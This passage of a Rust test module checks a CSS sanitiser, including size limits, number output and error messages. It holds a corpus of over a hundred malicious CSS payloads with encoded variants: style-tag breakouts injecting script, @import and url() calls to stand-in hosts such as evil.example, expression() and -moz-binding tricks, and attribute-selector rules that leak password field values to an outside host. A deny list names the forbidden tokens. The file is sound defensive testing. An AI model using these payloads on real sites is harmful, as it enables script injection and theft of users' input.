    fn size_and_rule_limits() {
        let big = format!(".a{{color:red}}/*{}*/", "x".repeat(MAX_CSS_BYTES));
        assert_eq!(sanitize_css(&big), Err(CssError::TooLarge { size: big.len() }));
        let just_fits = format!("/*{}*/", "x".repeat(MAX_CSS_BYTES - 4));
        assert_eq!(sanitize_css(&just_fits), Ok(String::new()));

        // Just under the limit, but longer once `é` is written `\e9 `.
        let grows = format!(".a{{font-family:\"{}\"}}", "é".repeat(MAX_CSS_BYTES / 2 - 20));
        assert!(grows.len() <= MAX_CSS_BYTES);
        assert!(matches!(sanitize_css(&grows), Err(CssError::TooLargeOnceCleaned { .. })));

        let rules = |n: usize| (0..n).map(|i| format!(".r{i}{{color:red}}")).collect::<String>();
        assert_eq!(clean(&rules(MAX_CSS_RULES)).lines().count(), MAX_CSS_RULES);
        assert_eq!(sanitize_css(&rules(MAX_CSS_RULES + 1)), Err(CssError::TooManyRules));
        // Dropped rules count too: the limit is about parsing work, not output.
        assert_eq!(sanitize_css(&"@import 'x';".repeat(MAX_CSS_RULES + 1)), Err(CssError::TooManyRules));
        // And rules inside @media.
        let nested = format!("@media screen{{{}}}", rules(MAX_CSS_RULES));
        assert_eq!(sanitize_css(&nested), Err(CssError::TooManyRules));
    }

    #[test]
    fn numbers_are_written_plainly() {
        for (value, expected) in [
            (0.0, Some("0")),
            (-0.0, Some("0")),
            (-0.0004, Some("0")),
            (1.0, Some("1")),
            (0.5, Some("0.5")),
            (-12.3456, Some("-12.346")),
            (1_000_000.0, Some("1000000")),
            (1_000_000.5, None),
            (f64::INFINITY, None),
            (f64::NAN, None),
        ] {
            assert_eq!(serialize_number(value).as_deref(), expected, "{value}");
        }
    }

    #[test]
    fn error_messages_read_well() {
        assert_eq!(
            CssError::TooLarge { size: 30_000 }.to_string(),
            "Custom CSS can be at most 20 KB; this is 30000 bytes"
        );
        assert_eq!(CssError::TooManyRules.to_string(), "Custom CSS can have at most 500 rules");
    }

    // ---- malicious CSS never escapes -------------------------------------------------------------------

    /// Independent of the module's decoder on purpose: the corpus check must not share its bugs.
    fn decode_for_check(css: &str) -> String {
        let chars: Vec<char> = css.chars().collect();
        let mut out = String::new();
        let mut i = 0;
        while i < chars.len() {
            if chars[i] != '\\' {
                out.push(chars[i]);
                i += 1;
                continue;
            }
            i += 1;
            let hex: String = chars[i..].iter().take(6).take_while(|c| c.is_ascii_hexdigit()).collect();
            if hex.is_empty() {
                if let Some(&c) = chars.get(i) {
                    if c != '\n' {
                        out.push(c);
                    }
                    i += 1;
                }
                continue;
            }
            i += hex.len();
            if chars.get(i).is_some_and(|c| c.is_whitespace()) {
                i += 1;
            }
            let code = u32::from_str_radix(&hex, 16).unwrap();
            out.push(char::from_u32(code).unwrap_or('\u{fffd}'));
        }
        out
    }

    const MUST_NOT_APPEAR: &[&str] = &[
        "<",
        ">",
        "<!--",
        "-->",
        "</style",
        "@import",
        "url(",
        "expression",
        "behavior",
        "behaviour",
        "binding",
        "javascript",
        "vbscript",
        "@font-face",
        "@namespace",
        "@charset",
        "image-set",
        "\\\n",
        "\\\r",
    ];

    /// The output with its strings removed (ours never hold a quote, so the first `"` after one closes it).
    fn outside_strings(css: &str) -> String {
        css.split('"').step_by(2).collect()
    }

    /// Sanitise `input` and check the output: refused only for size/rule count, free of every forbidden
    /// substring (raw, and decoded + lowercased), and a fixed point of the sanitiser.
    fn assert_never_escapes(input: &str) {
        let output = match sanitize_css(input) {
            Ok(output) => output,
            Err(CssError::TooLarge { .. } | CssError::TooLargeOnceCleaned { .. } | CssError::TooManyRules) => return,
            Err(CssError::Unsafe) => panic!("the final check had to catch {input:?}: an allow-list leaks"),
        };
        for view in [output.to_lowercase(), decode_for_check(&output).to_lowercase()] {
            for bad in MUST_NOT_APPEAR {
                assert!(!view.contains(bad), "{bad:?} escaped from {input:?} into {output:?}");
            }
            // Attribute selectors (`[`) can only appear as text inside strings.
            assert!(!outside_strings(&view).contains(['[', ']']), "an attribute selector escaped from {input:?}");
            // The only at-rule that can come out is `@media`.
            assert!(!view.replace("@media ", "").contains('@'), "an at-rule escaped from {input:?} into {output:?}");
        }
        assert!(!output.contains('\0'), "NUL in output of {input:?}");
        assert_eq!(sanitize_css(&output).as_ref(), Ok(&output), "not idempotent for {input:?}");
    }

    fn malicious_base_payloads() -> Vec<String> {
        let mut payloads: Vec<String> = [
            // Breaking out of <style>
            "</style><script>alert(1)</script>",
            "</STYLE><SCRIPT>alert(1)</SCRIPT>",
            "</style ><img src=x onerror=alert(1)>",
            "</style/><svg onload=alert(1)>",
            "<style>.a{color:red}</style>",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "]]></style><script>alert(1)</script>",
            ".a{color:red}</style><script>alert(1)</script>",
            ".a{color:red}\n</style>\n<script>alert(1)</script>",
            ".a{color:red;}}</style><script>alert(1)</script>{",
            ".a{color:\"</style><script>alert(1)</script>\"}",
            ".a{font-family:\"</style><script>alert(1)</script>\"}",
            ".a{content:\"</style>\"}",
            ".a{font-family:'</style>'}",
            ".a::before{content:\"</style>\"}",
            ".a{--brand-x:</style>}",
            ".a{--brand-x:\"</style>\"}",
            ":root{--brand-primary:red}</style>",
            "@media screen{</style><script>alert(1)</script>}",
            "@media screen{.a{color:red}</style>",
            // Unicode and escapes of <, >
            ".a{font-family:\"\\3c /style\\3e \"}",
            ".a{font-family:\"\\00003c/style\\00003e\"}",
            ".a{font-family:\\3c /style\\3e}",
            ".a{font-family:\"\\<\\/style\\>\"}",
            ".a{color:\\3c /style\\3e}",
            ".a\\3c /style\\3e {color:red}",
            ".a\\<{color:red}",
            "#\\3c script{color:red}",
            ".a{font-family:\"\\3c\"}",
            ".a{font-family:\"\\3c!--\"}",
            ".a{font-family:\"-\\2d>\"}",
            ".a{font-family:\"\\FF1C/style\\FF1E\"}",
            ".a{font-family:\"\\110000\"}",
            ".a{font-family:\"\\d800\"}",
            ".a{font-family:\"\\0\"}",
            // @import in all spellings
            "@import url(//evil.example/x.css);",
            "@import 'x.css';",
            "@import \"x.css\" screen;",
            "@IMPORT url(x.css);",
            "@\\69mport url(x.css);",
            "@\\000069mport 'x';",
            "\\40 import url(x);",
            "@im\\port 'x';",
            "@\\import 'x';",
            "@import/**/url(x);",
            "@import url(data:text/css;base64,LmF7fQ==);",
            ".a{color:red}@import url(x);",
            ".a{color:red;@import url(x);}",
            "@media screen{@import url(x);}",
            "@media print{.a{color:red}}@import 'x';",
            // url() in all spellings
            ".a{background:url(http://evil/x.png)}",
            ".a{background-color:url(http://evil/x.png)}",
            ".a{background-image:url(\"http://evil/x.png\")}",
            ".a{background-color:u\\rl(http://evil/x.png)}",
            ".a{background-color:\\75 rl(javascript:alert(1))}",
            ".a{background-color:\\000075\\000072\\00006c(x)}",
            ".a{background-color:URL(x)}",
            ".a{background-color:url( x )}",
            ".a{background-color:url(javascript:alert(1))}",
            ".a{background-color:url('javascript:alert(1)')}",
            ".a{background:url(data:image/svg+xml;utf8,<svg onload=alert(1)>)}",
            ".a{border:1px solid url(x)}",
            ".a{border-image:url(x.png) 30 round}",
            ".a{list-style:url(x)}",
            ".a{cursor:url(x),auto}",
            ".a{color:var(--x, url(x))}",
            ".a{color:rgb(url(x))}",
            ".a{width:calc(1px + url(x))}",
            ".a{--brand-x:url(x)}",
            ".a{background-color:var(--x)}url(x)",
            ".a{color:url\\(x)}",
            // image-set and friends
            ".a{background-image:image-set(\"x.png\" 1x)}",
            ".a{background-color:image-set(\"x.png\" 1x)}",
            ".a{background-image:-webkit-image-set(url(x.png) 1x)}",
            ".a{background-color:image(x.png)}",
            ".a{color:attr(data-x)}",
            ".a{width:env(safe-area-inset-top)}",
            ".a{color:element(#x)}",
            // expression(), behavior, -moz-binding
            ".a{color:expression(alert(1))}",
            ".a{width:expression(alert(1))}",
            ".a{width:e\\xpression(alert(1))}",
            ".a{width:e\\78pression(alert(1))}",
            ".a{width:expr/**/ession(alert(1))}",
            ".a{width:EXPRESSION(alert(1))}",
            ".a{background-color:\\65 xpression(alert(1))}",
            ".a{zoom:expression(this.runtimeStyle.zoom=\"1\")}",
            ".a{display:expression(1)}",
            ".a{--evil:expression(1)}",
            ".a{behavior:url(x.htc)}",
            ".a{behaviour:url(x.htc)}",
            ".a{-ms-behavior:url(x.htc)}",
            ".a{b\\ehavior:url(x.htc)}",
            ".a{-moz-binding:url(http://evil/x.xml#xss)}",
            ".a{-moz-binding:url(data:text/xml,<x/>)}",
            ".a{-\\6d oz-binding:url(x)}",
            ".a{display:-moz-binding}",
            ".a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')}",
            ".a{-o-link:'javascript:alert(1)';-o-link-source:current}",
            ".a{color:javascript:alert(1)}",
            ".a{font-family:\"javascript:alert(1)\"}",
            ".a{font-family:java\\73 cript}",
            ".a{font-family:vbscript}",
            // Other at-rules
            "@font-face{font-family:x;src:url(//evil/x.woff)}",
            "@namespace url(http://www.w3.org/1999/xhtml);",
            "@namespace svg url(http://www.w3.org/2000/svg);",
            "@charset \"utf-8\";",
            "@charset \"utf-7\"; +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "@media url(x){.a{color:red}}",
            "@media (min-width:expression(alert(1))){.a{color:red}}",
            "@media screen and (max-width: 100px) { @font-face { src: url(x) } }",
            "@media screen,url(x){.a{color:red}}",
            "@media screen and (min-width:1px) and (max-width:url(x)){.a{color:red}}",
            "@media (width >= 600px){.a{color:red}}",
            "@supports (display:grid){.a{background:url(x)}}",
            "@keyframes x{from{background:url(x)}}",
            "@page{background:url(x)}",
            "@document url-prefix(http://evil){.a{color:red}}",
            "@-moz-document url-prefix(){.a{color:red}}",
            "@layer x{.a{background:url(x)}}",
            "@container (min-width:1px){.a{background:url(x)}}",
            "@media screen{@media screen{@media screen{@media screen{@media screen{.a{color:red}}}}}}",
            // Comments, CDO/CDC
            "/*</style><script>alert(1)</script>*/",
            ".a{color:red/*</style><script>alert(1)</script>*/}",
            "/* unterminated </style>",
            ".a{color:red}/*",
            "<!-- .a{color:red} -->",
            "<!--</style><script>alert(1)</script>-->",
            ".a{color:red}<!--",
            "--><script>alert(1)</script>",
            ".a{color:<!--red-->}",
            ".a{font-family:\"<!--\"}",
            ".a{font-family:\"-->\"}",
            ".a--{color:red}",
            // Unbalanced braces and broken tokens
            ".a{color:red",
            ".a{color:red}}}}</style>",
            "{{{{",
            "}}}}.a{color:red}",
            ".a{{color:red}}",
            ".a{color:red;.b{background:url(x)}}",
            ".a{color:red;@media screen{color:blue}}",
            ".a{color:rgb(0,0,0",
            ".a{color:\"unterminated",
            ".a{font-family:\"a\\\nb\"}",
            ".a{font-family:\"a\nb\"}",
            ".a{color:'\\''}",
            ".a{font-family:\"a\\\"b\"}",
            ".a{font-family:\"a'b\"}",
            ".a{font-family:\"a<b\"}",
            ".a{font-family:\"a>b\"}",
            ".a{font-family:\\\"x}",
            ".a{color:red}\\",
            ".a{color:red}\\\n</style>",
            ".a{color:red;;;;background:url(x)}",
            ".a{color:red !important; background: url(x) !important}",
            ".a{color:red!ie}",
            ".a{color:#<script>}",
            ".a{color:#fff</style>}",
            // NUL bytes
            "\0</style\0>",
            ".a\\0{color:red}",
            ".a{font-family:\"x\0</style>\"}",
            ".a{color:red\0}</style>",
            // Numbers
            ".a{width:1e999px}",
            ".a{width:-1e999px}",
            ".a{width:99999999999999999999px}",
            ".a{opacity:NaN}",
            ".a{width:1\\70 x}",
            ".a{width:1px\\0}",
            ".a{width:1e3e}",
            // Selectors
            "a[href^=http]{color:red}",
            "a[href^=\"javascript:\"]{background:url(x)}",
            "input[value^=a]{background-color:url(//evil/a)}",
            "input[type=password][value$=\"a\"]{background-image:url(//evil/a)}",
            ".a:has(.b){color:red}",
            ".a:not(.b){color:red}",
            ".a::after{content:url(x)}",
            ".a:hover>.b{color:red}",
            ".a > .b{color:red}",
            ".a + .b{color:red}",
            ".a ~ .b{color:red}",
            "*{color:red}",
            "svg|a{color:red}",
            ".a:nth-child(2n+1){color:red}",
            ".a{--brand-x:{}}",
            ".a{--brand-x:;}",
            ".a{--brand-x:[<]}",
        ]
        .into_iter()
        .map(str::to_owned)
        .collect();
        // A few generated ones: very long input, deep nesting, long escapes.
        payloads.push(format!(".a{{font-family:\"{}</style>\"}}", "a".repeat(MAX_CSS_BYTES)));
        payloads.push(format!("{}.a{{color:red}}", "@media screen{".repeat(50)));
        payloads.push(format!(".a{{width:{}url(x)}}", "calc(".repeat(100)));
        payloads.push(format!(".a{{color:{}}}", "\\3c ".repeat(100)));
        payloads.push(format!("{}</style>", ".a{color:red}".repeat(10)));
        payloads
    }

    /// The ways each base payload is disguised.
    fn variants(payload: &str) -> Vec<String> {
        let escape_letters = |hex: bool| {
            payload
                .chars()
                .map(|c| match c {
                    c if hex && c.is_ascii_alphabetic() => format!("\\{:x} ", u32::from(c)),
                    // `\g` .. `\z`: a backslash before a non-hex letter is that letter.
                    c if !hex && c.is_ascii_alphabetic() && !c.is_ascii_hexdigit() => format!("\\{c}"),
                    c => c.to_string(),
                })
                .collect::<String>()
        };
        let with_comments = payload
            .chars()
            .enumerate()
            .map(|(i, c)| if i % 3 == 2 { format!("{c}/**/") } else { c.to_string() })
            .collect::<String>();
        let with_nuls = payload.chars().flat_map(|c| [c, '\0']).collect::<String>();
        vec![
            payload.to_owned(),
            payload.to_uppercase(),
            with_comments,
            escape_letters(true),
            escape_letters(false),
            with_nuls,
            format!(".ok{{color:red}}{payload}.ok{{color:blue}}"),
            format!(".ok{{color:red;{payload}}}"),
            format!("@media screen{{{payload}}}"),
            format!(".ok{{font-family:\"{payload}\"}}"),
        ]
    }

    #[test]
    fn malicious_payloads_never_escape() {
        let bases = malicious_base_payloads();
        assert!(bases.len() >= 120, "only {} base payloads", bases.len());
        let mut checked = 0;
        for base in &bases {
            for variant in variants(base) {
                assert_never_escapes(&variant);
                checked += 1;
            }
        }
        eprintln!(
            "css sanitiser: {checked} malicious payloads checked ({} base payloads x 10 variants), 0 escapes",
            bases.len()
        );
    }

    #[test]
    fn allowed_css_survives_the_variants_that_keep_it_valid() {
        // Uppercasing and comment-free escaping keep good CSS good: the sanitiser must not be over-eager.
        assert_eq!(
            clean(".BTN{BACKGROUND-COLOR:VAR(--brand-primary)}"),
            ".BTN{background-color:var(--brand-primary);}"
        );
        assert_eq!(clean(".\\62 tn{\\63 olor:r\\65 d}"), ".btn{color:red;}");
    }

    #[test]
    fn the_decoder_matches_the_tokeniser() {
        for (css, decoded) in [
            ("\\3c /style\\3e", "</style>"),
            ("\\00003c/x", "</x"),
            ("\\75 rl(", "url("),
            ("e\\xpression", "expression"),
            ("a\\\nb", "ab"),
            ("\\0", "\u{fffd}"),
            ("\\110000", "\u{fffd}"),
            ("\\d800", "\u{fffd}"),
            ("x\\", "x\u{fffd}"),
        ] {
            assert_eq!(decode_css_escapes(css), decoded, "{css:?}");
        }
    }

    fn css_fragment() -> impl Strategy<Value = &'static str> {
        prop::sample::select(vec![
            "url(",
            "@import",
            "@media",
            " screen",
            "(min-width:1px)",
            "<",
            "</",
            "style",
            ">",
            "{",
            "}",
            ";",
            ":",
            "\\",
            "75 ",
            "3c ",
            "\"",
            "'",
            "(",
            ")",
            ".a",
            "#b",
            "a",
            "color",
            "background-color",
            "red",
            " ",
            "\n",
            "/*",
            "*/",
            "<!--",
            "-->",
            "expression",
            "e",
            "x",
            ",",
            "#fff",
            "1px",
            "-",
            "+",
            "*",
            "/",
            "!important",
            "--brand-x",
            "var(",
            "calc(",
            "\0",
            "é",
            "[",
            "]",
            "=",
            "&",
            "javascript:",
            "0.5",
            "1e3",
            "%",
        ])
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2000))]

        #[test]
        fn random_css_never_escapes(fragments in prop::collection::vec(css_fragment(), 0..40)) {
            assert_never_escapes(&fragments.concat());
        }

        #[test]
        fn arbitrary_text_never_escapes(text in "\\PC{0,200}") {
            assert_never_escapes(&text);
        }

        #[test]
        fn numbers_are_stable(number in "[+-]?[0-9]{0,8}(\\.[0-9]{0,9})?([eE][+-]?[0-9]{1,2})?", unit in "(px|%|em|)") {
            let css = format!(".a{{width:{number}{unit}}}");
            let once = sanitize_css(&css).unwrap();
            prop_assert_eq!(sanitize_css(&once).unwrap(), once);
        }
    }
}
